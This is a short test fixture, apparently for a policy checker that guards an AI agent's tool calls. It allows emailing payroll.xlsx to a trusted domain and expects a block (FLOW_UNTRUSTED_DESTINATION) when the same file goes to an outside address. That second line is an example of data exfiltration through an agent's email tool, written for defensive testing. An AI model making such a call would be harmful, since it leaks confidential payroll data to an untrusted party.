// trusted: ["orla.example"]
// tool: {"name": "send_email", "description": "Send an email with attached files.", "inputSchema": {"type": "object", "properties": {"to": {"type": "string"}, "subject": {"type": "string"}, "body": {"type": "string"}, "attachments": {"type": "array", "items": {"type": "string"}}}}}

await callTool('send_email', { to: 'pay@orla.example', subject: 'Payroll', body: 'Attached.', attachments: ['payroll.xlsx'] }); // ok
await callTool('send_email', { to: 'p@outsider.example', subject: 'Payroll', body: 'Attached.', attachments: ['payroll.xlsx'] }); // expect: FLOW_UNTRUSTED_DESTINATION
